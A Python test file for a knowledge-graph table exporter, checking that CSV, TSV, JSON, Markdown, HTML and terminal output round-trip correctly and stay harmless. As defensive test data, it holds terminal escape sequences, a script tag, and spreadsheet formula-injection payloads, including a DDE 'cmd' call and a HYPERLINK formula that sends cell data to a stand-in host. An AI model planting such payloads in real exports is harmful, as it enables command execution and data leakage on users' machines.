"""Tables in every form: read back by a second implementation, and harmless in a terminal, a page and Markdown."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Callable
from datetime import date
from functools import cache
from pathlib import Path
from typing import Any

import pyoxigraph as ox
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rdflib import BNode, Literal, URIRef
from rdflib.plugins.sparql.results.jsonresults import JSONResultParser
from rdflib.plugins.sparql.results.tsvresults import TSVResultParser
from rdflib.query import Result
from rdflib.term import Identifier
from shared_graphs import shipped_graph

import kg
from kg.facts.nodes import Mapping, Scalar
from kg.facts.registers import parse_table
from kg.model.vocabulary import ID, XSD
from kg.store.tables import FORMULA, Table, Term, guard, shorten, unguard, visible, width_of

ATTACK = '\x1b[31mred\x1b]0;title\x07 \x9b2J\r\n\u202etxt\u202c\u2066x\x00\x08|a|<script>alert(1)</script>&amp;`"\\'


def make_table(*terms: Term | None, columns: tuple[str, ...] = ("one",)) -> Table:
    width = len(columns)
    rows = tuple(tuple(terms[i : i + width]) for i in range(0, len(terms), width))
    return Table(columns, rows, ID)


def typed(value: str, datatype: str) -> ox.Literal:
    return ox.Literal(value, datatype=ox.NamedNode(XSD + datatype))


def as_rdflib(term: Term | None) -> Identifier | None:
    if term is None:
        return None
    if isinstance(term, ox.NamedNode):
        return URIRef(term.value)
    if isinstance(term, ox.BlankNode):
        return BNode(term.value)
    if term.language:
        return Literal(term.value, lang=term.language)
    plain = term.datatype.value == XSD + "string"
    return Literal(term.value, datatype=None if plain else URIRef(term.datatype.value), normalize=False)


def same(one: Identifier | None, other: Identifier | None) -> bool:
    """Whether two terms are the same; blank nodes have new names in each document, xsd:string is the plain literal."""
    if isinstance(one, BNode) or isinstance(other, BNode):
        return type(one) is type(other)
    if isinstance(one, Literal) and isinstance(other, Literal):
        string = URIRef(XSD + "string")
        return (str(one), one.language, one.datatype or string) == (
            str(other),
            other.language,
            other.datatype or string,
        )
    return one == other


def parse(parser: Callable[[], Any], text: str) -> Result:
    found = parser().parse(io.BytesIO(text.encode("utf-8")))
    assert isinstance(found, Result)
    return found


def rows_of(result: Result) -> list[list[Identifier | None]]:
    assert result.vars is not None
    return [[binding.get(name) for name in result.vars] for binding in result.bindings]


@cache
def answer() -> Table:
    return shipped_graph().query("claims", about="turkey")


TEXTS = st.text(st.characters(codec="utf-8", exclude_characters="\x00"))
TERMS = st.one_of(
    st.none(),
    st.sampled_from(["a", "b"]).map(lambda name: ox.NamedNode(ID + name)),
    TEXTS.map(ox.Literal),
    TEXTS.map(lambda text: ox.Literal(text, language="tr")),
    st.integers().map(lambda n: typed(str(n), "integer")),
    st.dates().map(lambda day: typed(day.isoformat(), "date")),
    st.just(ox.BlankNode("b1")),
)
TABLES = st.lists(st.tuples(TERMS, TERMS), max_size=4).map(lambda rows: Table(("one", "two"), tuple(rows), ID))


@settings(deadline=None)
@given(TABLES)
def test_json_read_back_by_rdflib(table: Table) -> None:
    found = parse(JSONResultParser, table.to_json())
    assert [str(name) for name in found.vars or []] == ["one", "two"]
    check_same(table, rows_of(found))


@settings(deadline=None)
@given(st.lists(st.tuples(TERMS, TERMS), max_size=4).map(lambda rows: Table(("one", "two"), tuple(rows), ID)))
def test_tsv_cells_are_turtle_terms(table: Table) -> None:
    """One line per row, one cell per column, each cell a term in Turtle's notation that gives the same term."""
    lines = table.to_tsv(raw=True).removesuffix("\n").split("\n")
    assert lines[0] == "?one\t?two"
    assert len(lines) == len(table) + 1
    for line, row in zip(lines[1:], table.terms, strict=True):
        cells = line.split("\t")
        assert len(cells) == 2
        for cell, term in zip(cells, row, strict=True):
            if term is None:
                assert cell == ""
            elif isinstance(term, ox.BlankNode):
                assert cell.startswith("_:")
            else:
                (quad,) = ox.parse(f"<x:s> <x:p> {cell} .".encode(), format=ox.RdfFormat.TURTLE)
                assert quad.object == term


@pytest.mark.slow
def test_tsv_read_back_by_rdflib() -> None:
    terms = (ox.NamedNode(ID + "a"), ox.Literal("tab\tand \"quotes\" and\nlines"), None, typed("3", "integer"),
             ox.Literal("dört", language="tr"), typed("2022-04-26", "date"))  # fmt: skip
    table = make_table(*terms, columns=("one", "two"))
    check_same(table, rows_of(parse(TSVResultParser, table.to_tsv())))
    check_same(answer(), rows_of(parse(TSVResultParser, answer().to_tsv())))


def check_same(table: Table, rows: list[list[Identifier | None]]) -> None:
    assert len(rows) == len(table)
    for found, row in zip(rows, table.terms, strict=True):
        assert all(same(cell, as_rdflib(term)) for cell, term in zip(found, row, strict=True)), (found, row)


@settings(deadline=None)
@given(TABLES)
def test_csv_read_back(table: Table) -> None:
    """Whole IRIs and plain values, CRLF between rows, as RFC 4180 and the W3C have it."""
    text = table.to_csv(raw=True)
    assert text.endswith("\r\n")
    head, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert head == ["one", "two"]
    assert rows == [
        ["" if term is None else str(term) if isinstance(term, ox.BlankNode) else term.value for term in row]
        for row in table.terms
    ]


FORMULAS = (
    "=1+1", "+1", "-5", "@SUM(A1)", "|calc", "\t=1", "\r=1", "\n=1", "\tx", "\rx", "  =1", "\u00a0=1", "\u3000-1",
    "\u200b=1", "\ufeff=1", "\x00=1", "\u200f=1", "＝1", "＋1", "－1", "＠x", "｜x", "﹦1", "﹢1", "﹣1", "﹫x", "−1",
    "'=1", "''  @x", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"y")',
)  # fmt: skip
HARMLESS = (
    "", "'", "''", "Ankara", "'Abd al-Karim", "a=1", "1-1", "5", "(=1)", "#REF!", "https://x.example/=1", "–1 %",
)  # fmt: skip
CELLS = st.one_of(
    st.sampled_from([*FORMULAS, *HARMLESS]),
    st.lists(st.sampled_from([*"='-+@|\t\r\n x1,;\"", "＝", "\u200b", "\ufeff"]), max_size=6).map("".join),
    TEXTS,
)


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_guarded(text: str) -> None:
    assert guard(text) == "'" + text and unguard(guard(text)) == text
    for term in (ox.Literal(text), ox.Literal(text, language="tr"), typed(text, "date")):
        table = make_table(term)
        assert list(csv.reader(io.StringIO(table.to_csv(), newline="")))[1] == ["'" + text]
        assert table.to_tsv().split("\n")[1].startswith("\"'")


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_left_alone(text: str) -> None:
    assert guard(text) == text and unguard(text) == text
    table = make_table(ox.Literal(text))
    assert (table.to_csv(), table.to_tsv()) == (table.to_csv(raw=True), table.to_tsv(raw=True))


@settings(deadline=None)
@given(CELLS)
def test_guard_and_back(text: str) -> None:
    """What is guarded comes back as it was, and no cell is a formula; what was never guarded stays as it is."""
    assert unguard(guard(text)) == text
    assert guard(text) == text or guard(text) == "'" + text
    assert not guard(text).lstrip(" \u200b\ufeff\u3000").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
    if not FORMULA.match(text):
        assert unguard(text) == text


@settings(deadline=None)
@given(CELLS)
def test_a_register_reads_guarded_cells(text: str) -> None:
    """What a table of kg has becomes facts again as it was."""
    cell = guard(text.replace("\x00", ""))
    out = io.StringIO(newline="")
    csv.writer(out).writerows([["id", "description"], ["a", cell]])
    problems: list[kg.Problem] = []
    document = parse_table(out.getvalue(), "actors.csv", report=problems.append)
    assert document is not None and not problems
    actors = document["actors"]
    assert isinstance(actors, Mapping)
    entry = actors["a"]
    assert isinstance(entry, Mapping)
    found = entry["description"] if "description" in entry.items else None
    assert (found.value if isinstance(found, Scalar) else "") == text.replace("\x00", "").strip()


@settings(deadline=None)
@given(CELLS)
def test_tsv_and_back(text: str) -> None:
    """A cell of TSV is a term still, with a text that `unguard` gives back."""
    cell = make_table(ox.Literal(text)).to_tsv().split("\n")[1]
    (quad,) = ox.parse(f"<x:s> <x:p> {cell} .".encode(), format=ox.RdfFormat.TURTLE)
    assert isinstance(quad.object, ox.Literal) and unguard(quad.object.value) == text


@pytest.mark.parametrize(
    ("value", "datatype"),
    [
        ("-5", "integer"),
        ("+5", "integer"),
        ("-1.5", "decimal"),
        ("-.5", "decimal"),
        ("-1e-7", "double"),
        ("-INF", "float"),
    ],
)
def test_numbers_stay_numbers(value: str, datatype: str) -> None:
    table = make_table(typed(value, datatype))
    assert table.to_csv() == table.to_csv(raw=True) == f"one\r\n{value}\r\n"
    assert table.to_tsv() == table.to_tsv(raw=True) == f'?one\n"{value}"^^<{XSD}{datatype}>\n'


def test_numbers_that_are_none_are_texts() -> None:
    table = make_table(typed("=1", "integer"), typed("-2+3", "decimal"), ox.Literal("-5"))
    assert [row[0] for row in csv.reader(io.StringIO(table.to_csv(), newline=""))][1:] == ["'=1", "'-2+3", "'-5"]
    assert table.to_tsv().split("\n")[1] == f'"\'=1"^^<{XSD}integer>'


def test_columns_are_guarded() -> None:
    assert make_table(ox.Literal("x"), columns=("=1",)).to_csv() == "'=1\r\nx\r\n"


def test_the_page_has_the_same_rule() -> None:
    script = Path(kg.__file__).parent / "page" / "script" / "table.js"
    assert f"/{FORMULA.pattern}/" in script.read_text(encoding="utf-8")


def test_json_of_an_answer() -> None:
    document = json.loads(answer().to_json())
    assert document["head"]["vars"] == list(answer().columns)
    assert len(document["results"]["bindings"]) == len(answer())
    first = document["results"]["bindings"][0]
    assert first["statement"]["type"] == "uri" and first["statement"]["value"].startswith(ID)
    assert not any("for" in binding and binding["for"] is None for binding in document["results"]["bindings"])


@settings(deadline=None)
@given(st.text(max_size=60))
def test_text_has_no_control_characters(text: str) -> None:
    table = make_table(ox.Literal(clean(text)), ox.NamedNode(ID + "a"), columns=("one", "two"))
    lines = table.to_text().split("\n")
    assert len(lines) == 3 and lines[2] == ""
    assert not any(unicodedata.category(c) in ("Cc", "Cf", "Cs") for line in lines for c in line)


def clean(text: str) -> str:
    """Without lone surrogates, which no RDF literal can hold."""
    return text.encode("utf-8", "ignore").decode("utf-8")


def test_escape_sequences_are_harmless() -> None:
    table = make_table(ox.Literal(ATTACK))
    for text in (table.to_text(), str(table), table.to_markdown(), table._repr_html_()):
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)
    assert visible("a\x1b[2Jb\nc\td\u202e") == "a[2Jb c d"


def test_markdown_escapes_pipes_and_html() -> None:
    lines = make_table(ox.Literal(ATTACK), ox.Literal("a|b\\|c\nd"), columns=("x", "y")).to_markdown().split("\n")
    assert lines[:2] == ["| x | y |", "| --- | --- |"]
    assert len(lines) == 4 and lines[3] == ""
    assert "<" not in lines[2] and "&lt;script&gt;" in lines[2]
    assert len(re.findall(r"(?<!\\)(?:\\\\)*\|", lines[2])) == 3  # the three bars of a row of two cells


def test_html_escapes() -> None:
    html = make_table(ox.Literal(ATTACK), columns=("<b>",))._repr_html_()
    assert "<script" not in html and "<b>" not in html
    assert "&lt;script&gt;" in html


def test_values_of_python() -> None:
    terms = (ox.NamedNode(ID + "putin"), ox.NamedNode("http://example.org/x"), ox.Literal("a"), typed("3", "integer"),
             typed("2022-04-26", "date"), typed("true", "boolean"), typed("1.5", "double"), typed("x", "integer"),
             None)  # fmt: skip
    values = [row["one"] for row in make_table(*terms)]
    assert values == ["putin", "http://example.org/x", "a", 3, date(2022, 4, 26), True, 1.5, "x", None]


def test_short_ids() -> None:
    assert shorten(ID + "claim/s/x", ID) == "s/x"
    assert shorten("https://example.org/role/mediator", ID) == "https://example.org/role/mediator"


def test_long_cells_are_cut_for_people_only() -> None:
    table = make_table(ox.Literal("x" * 5000))
    assert len(table.to_text()) < 500
    assert "x" * 5000 in table.to_csv() and "x" * 5000 in table.to_json()


def test_empty_table() -> None:
    table = Table(("one", "two"), (), ID)
    assert table.to_text() == "one  two\n"
    assert table.to_csv() == "one,two\r\n"
    assert table.to_tsv() == "?one\t?two\n"
    assert json.loads(table.to_json())["results"]["bindings"] == []
    assert len(table) == 0 and table.rows == []


def test_to_pandas() -> None:
    pytest.importorskip("pandas")
    frame = answer().to_pandas()
    assert list(frame.columns) == list(answer().columns)
    assert frame.shape == (len(answer()), len(answer().columns))
    assert list(Table(("one", "two"), (), ID).to_pandas().columns) == ["one", "two"]


def test_library_that_is_not_installed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(__import__("sys").modules, "polars", None)
    with pytest.raises(kg.UsageError, match="polars is not installed; pip install polars"):
        answer().to_polars()


def test_wide_letters_line_up() -> None:
    """Columns of plain text are as wide as their longest cell, as a terminal shows it."""
    lines = answer().to_text().splitlines()
    start = lines[0].index("type")
    assert all(line[start - 2 : start] == "  " for line in lines)

    names = ("Wang Yi", "王毅", "왕이", "ワン・イー", "ﾜﾝ", "Erdog\u0306an", "שָׁלוֹם", "👍", "ｗａｎｇ", "\u00e9")
    table = make_table(*(ox.Literal(cell) for name in names for cell in (name, "|")), columns=("one", "two"))
    for line in table.to_text().splitlines()[1:]:
        assert width_of(line) == 10 + 2 + 1, line
    assert [width_of(name) for name in names] == [7, 4, 4, 10, 2, 7, 4, 2, 8, 1]
